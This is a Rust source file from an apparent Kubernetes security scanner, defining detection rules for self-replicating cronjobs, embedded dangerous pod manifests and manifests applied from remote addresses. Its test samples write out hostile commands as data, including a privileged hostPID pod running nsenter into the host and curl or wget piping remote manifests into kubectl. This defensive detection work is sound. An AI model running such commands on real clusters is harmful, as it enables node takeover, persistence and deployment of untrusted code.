//! Objects that a workload makes in the cluster: copies of itself, other workloads, manifests from elsewhere.

use super::kubectl;
use super::url::{Reach, target};
use super::words::{operands, subcommand, words};
use super::{COMMAND, Facts, Rule, Run, Sample, Severity, Weight, before, each_heaviest, fed_by};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::detect_at;
use crate::detect::embedded::What;
use crate::detect::findings::Collector;
use crate::detect::flow::{is_downloader, written_files};
use crate::normalize::{Invocation, RedirectOp};
use crate::score::{BANDS, Family, score};

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-self-replication",
        title: "Workload that creates workloads",
        message: "creates the scheduled workloads of the cluster",
        meaning: "A job that makes jobs comes back after it is deleted, and can spread over namespaces.",
        false_positives: "Bootstrap of GitOps; starting a Job from a CronJob is not it.",
        confirm: &[
            Step::Object(
                "What it creates: kubectl create cronjob, apply of a template, or the export of itself \
                 into another namespace.",
            ),
            Step::Run(
                "kubectl get cronjobs,jobs -A --sort-by=.metadata.creationTimestamp -o \
                 custom-columns=KIND:.kind,NAMESPACE:.metadata.namespace,NAME:.metadata.name,CREATED:.metadata.creationTimestamp",
                "Workloads at the end of the list with similar names, images or commands: the offspring.",
            ),
            Step::Rights("Whether the account may create jobs or cronjobs at all, and in which namespaces."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Cluster],
            attack: "Take the right to create away first (delete the binding of the account), then suspend \
                     all copies, the newest last: otherwise one brings back the others.",
            benign: "Let GitOps or Helm create workloads from outside of the cluster. To start a Job from \
                     a CronJob, kubectl create job --from is enough and is not reported.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1053.007"],
        references: &[links::RBAC_PRACTICES, links::CRONJOB],
        check: |facts, found| {
            for run in &facts.runs {
                let fed = run.fed(exports_workload);
                let hit = run.invocations().find_map(|(at, invocation)| {
                    replicates(invocation, fed.get(at) == Some(&true)).map(|weight| (at, weight))
                });
                if let Some((at, (severity, points))) = hit {
                    let evidence = run.show_flow(at, exports_workload);
                    found.hit_as(severity, points, Some(&run.container.name), run.path(), &evidence);
                }
            }
        },
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'kubectl get cronjob x -o yaml | sed s/a/b/ | kubectl apply -f -']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [kubectl, create, cronjob, x, --image=busybox, '--schedule=* * * * *']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, \"kubectl apply -f - <<E\\nkind: CronJob\\nE\"]}]",
            ),
            Sample::Miss("containers: [{name: a, command: [kubectl, create, job, x, --from=cronjob/y]}]"),
            Sample::Miss("containers: [{name: a, command: [kubectl, get, cronjob, x, -o, yaml]}]"),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'kubectl get job x -o json | jq .status']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [kubectl, apply, -f, /manifests]}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-embedded-workload",
        title: "Dangerous workload in a script",
        message: "makes a workload that is dangerous itself",
        meaning: "The script carries the manifest of pods (in a here-document, a request's body, code) and gives it to \
                  the API server. Those pods were judged by the same rules as this workload, and the finding weighs \
                  what they score.",
        false_positives: "Installers of node agents: what they install needs the node, and would be reported by itself.",
        confirm: &[
            Step::Object("The manifest in the script: its command, mounts and security settings."),
            Step::Rights("Whether the account may create pods or what makes pods, and in which namespaces."),
            Step::Run(
                "kubectl get pods -A --sort-by=.metadata.creationTimestamp -o \
                 custom-columns=NAMESPACE:.metadata.namespace,NAME:.metadata.name,OWNER:.metadata.ownerReferences[0].name,CREATED:.metadata.creationTimestamp",
                "Pods at the end of the list with the names in the manifest.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Cluster, Exposure::Node],
            attack: "Take the right to create away from the account first, then look for what was made, on every \
                     node where it ran: the Job itself may have finished long ago.",
            benign: "Install by GitOps or Helm from outside of the cluster, where manifests are reviewed and \
                     scanned as files.",
        },
        severity: Severity::High,
        points: 75,
        techniques: &["T1610", "T1053.007"],
        references: &[links::RBAC_PRACTICES, links::POD_SECURITY],
        check: embedded,
        samples: &[
            Sample::Hit(
                75,
                "containers: [{name: a, command: [sh, -c, \"kubectl apply -f - <<E\\napiVersion: v1\\nkind: Pod\\nmetadata: {name: x}\\nspec: {hostPID: true, containers: [{name: c, image: x:1, securityContext: {privileged: true}, command: [nsenter, -t, '1', -m, sh]}]}\\nE\"]}]",
            ),
            Sample::Hit(
                46,
                "containers: [{name: a, command: [curl, -X, POST, 'https://kubernetes.default/api/v1/namespaces/d/pods', -d, '{\"kind\":\"Pod\",\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"c\",\"image\":\"x:1\",\"securityContext\":{\"privileged\":true}}]}}']}]",
            ),
            Sample::Hit(
                46,
                "containers: [{name: a, command: [kubectl, run, x, '--image=x:1', '--overrides={\"spec\": {\"hostPID\": true, \"containers\": [{\"name\": \"c\", \"image\": \"x:1\", \"securityContext\": {\"privileged\": true}}]}}']}]",
            ),
            Sample::Hit(
                46,
                "containers: [{name: a, command: [python3, -c, \"from kubernetes import client as c; c.CoreV1Api().create_namespaced_pod('d', {'kind': 'Pod', 'spec': {'hostPID': True, 'containers': [{'name': 'c', 'image': 'x:1', 'securityContext': {'privileged': True}}]}})\"]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, \"kubectl apply -f - <<E\\napiVersion: batch/v1\\nkind: Job\\nmetadata: {name: x}\\nspec: {template: {spec: {containers: [{name: c, image: 'x:1', command: [/app/migrate]}]}}}\\nE\"]}]",
            ),
            // Text that nobody gives to an API server.
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, \"cat <<E\\nkind: Pod\\nspec: {hostPID: true, containers: [{name: c, securityContext: {privileged: true}}]}\\nE\"]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [kubectl, patch, deploy, x, -p, '{\"spec\": {\"template\": {\"spec\": {\"containers\": [{\"name\": \"c\", \"image\": \"x:2\"}]}}}}']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-remote-manifest",
        title: "Manifest from elsewhere applied",
        message: "applies manifests or charts from elsewhere without looking at them",
        meaning: "What stands at the address when it runs becomes part of the cluster, with the rights of the account: \
                  the same as running a downloaded script.",
        false_positives: "Installers from a project's release page: over TLS and from a name, this weighs 8.",
        confirm: &[
            Step::Object(
                "The address: a release page of a project that you use, or an address nobody knows?",
            ),
            Step::Run(
                "kubectl get all -A --sort-by=.metadata.creationTimestamp -o \
                 custom-columns=KIND:.kind,NAMESPACE:.metadata.namespace,NAME:.metadata.name,CREATED:.metadata.creationTimestamp",
                "Objects made at the time of the run.",
            ),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Cluster],
            attack: "Fetch the manifest into a sandbox while it is still there: it lists what to look for. Block the \
                     address, and take the right to create away from the account.",
            benign: "Keep the manifest in your repository, reviewed and with a fixed version, and let GitOps apply it.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1105", "T1610"],
        references: &[links::SUPPLY_CHAIN, links::RBAC_PRACTICES],
        check: |facts, found| each_heaviest(facts, found, applies_remote),
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [kubectl, apply, -f, 'http://192.0.2.70/d.yaml']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.70/d.yaml | kubectl create -f -']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'wget -qO /tmp/d.yaml http://192.0.2.70/d; kubectl apply -f /tmp/d.yaml']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [helm, install, x, 'http://192.0.2.70/x-1.tgz']}]",
            ),
            Sample::Hit(
                25,
                "containers: [{name: a, command: [kubectl, apply, -f, 'http://x.example.test/d.yaml']}]",
            ),
            Sample::Hit(
                8,
                "containers: [{name: a, command: [kubectl, apply, -f, 'https://x.example.test/d.yaml']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [kubectl, apply, -f, 'http://manifests.shop.svc/d.yaml']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [kubectl, apply, -f, /manifests]}]"),
            Sample::Miss(
                "containers: [{name: a, command: [helm, upgrade, -i, x, ./chart, --set, 'url=http://192.0.2.70/']}]",
            ),
        ],
        ..COMMAND
    },
];

/// Judges the workloads in what is run, as if they stood there themselves.
fn embedded(facts: &Facts<'_>, found: &mut Collector<'_>) {
    for made in &facts.embedded {
        let (What::Workload(workload), Some(run)) = (&made.what, facts.runs.get(made.run)) else { continue };
        let findings = detect_at(workload, facts.depth + 1).findings;
        let score = score(&findings, &workload.namespace);
        if score.severity == Severity::None {
            continue;
        }
        // Floors raise the severity of what it scores: as many points as that severity begins with.
        let lowest =
            BANDS.iter().find(|(_, severity)| *severity == score.severity).map_or(0, |(least, _)| *least);
        let points = match score.severity {
            // An ordinary pod is no finding; the weak ones of the whole must not add up.
            Severity::Low => 5,
            _ => score.total.max(lowest),
        };
        let mut rules: Vec<&str> = findings.worst_first().iter().map(|(rule, _)| rule.id).collect();
        rules.dedup();
        rules.truncate(4);
        let kind = if made.kind.is_empty() { "patch" } else { made.kind.as_str() };
        let evidence = format!(
            "{kind} {}: {} {} ({})",
            made.name,
            score.severity.as_str(),
            score.total,
            rules.join(", ")
        );
        let severity = score.severity.min(Severity::High);
        let points = points.min(Family::Command.cap());
        found.hit_as(severity, points, Some(&run.container.name), run.path(), &evidence);
    }
}

/// Manifests and charts from an address: by `-f`, by a pipe, or by a file that was downloaded.
fn applies_remote(run: &Run<'_>, at: usize, invocation: &Invocation) -> Option<Weight> {
    let weigh = |url: &str| {
        let is_remote = url.contains("://") || url.starts_with("github.com/");
        let target = is_remote.then(|| target(url)).flatten()?;
        match target.reach() {
            Reach::Address | Reach::Drop => Some((Severity::High, 45)),
            Reach::Named if url.starts_with("http://") => Some((Severity::Medium, 25)),
            Reach::Named => Some((Severity::Low, 8)),
            Reach::Internal | Reach::Unknown => None,
        }
    };
    let heaviest =
        |urls: &mut dyn Iterator<Item = &str>| urls.filter_map(weigh).max_by_key(|weight| weight.1);
    if invocation.program == "helm" {
        let takes = subcommand(invocation, &["install", "upgrade", "template", "pull"]);
        return heaviest(&mut operands(invocation).filter(|word| takes && !word.contains('=')));
    }
    let call =
        kubectl::call(invocation).filter(|call| matches!(call.verb, "apply" | "create" | "replace"))?;
    let files = call.files();
    let downloads = |source: &Invocation| {
        let urls = words(source).filter(|word| !word.starts_with('-'));
        if is_downloader(source) { heaviest(&mut urls.filter(|word| word.contains("://"))) } else { None }
    };
    let own = heaviest(&mut files.iter().copied());
    let from_input = files.iter().any(|file| matches!(*file, "-" | "/dev/stdin"));
    let piped = fed_by(run, at).filter(|_| from_input).filter_map(downloads).max_by_key(|weight| weight.1);
    let stored = before(run, at)
        .filter(|source| is_downloader(source))
        .filter(|source| written_files(source).iter().any(|file| files.contains(file)))
        .filter_map(downloads)
        .max_by_key(|weight| weight.1);
    [own, piped, stored].into_iter().flatten().max_by_key(|weight| weight.1)
}

/// `kubectl get cronjob … -o yaml`.
fn exports_workload(invocation: &Invocation) -> bool {
    kubectl::call(invocation).is_some_and(|call| {
        call.verb == "get"
            && (call.output().starts_with("yaml") || call.output() == "json")
            && call.is_about(&["cronjob", "job", "daemonset"])
    })
}

fn replicates(invocation: &Invocation, fed: bool) -> Option<Weight> {
    let call = kubectl::call(invocation)?;
    if !matches!(call.verb, "apply" | "create" | "replace") {
        return None;
    }
    if call.verb == "create" && call.is_about(&["cronjob"]) {
        return Some((Severity::High, 45));
    }
    let from_input = call.files().iter().any(|file| matches!(*file, "-" | "/dev/stdin"));
    if from_input && fed {
        return Some((Severity::High, 45));
    }
    let written = invocation.redirects.iter().any(|redirect| {
        matches!(redirect.op, RedirectOp::HereDoc | RedirectOp::HereString)
            && redirect.target.text.lines().any(|line| {
                let line = line.trim().replace(['"', '\'', ' '], "");
                matches!(line.trim_end_matches(','), "kind:CronJob" | "kind:DaemonSet")
            })
    });
    (from_input && written).then_some((Severity::Medium, 30))
}
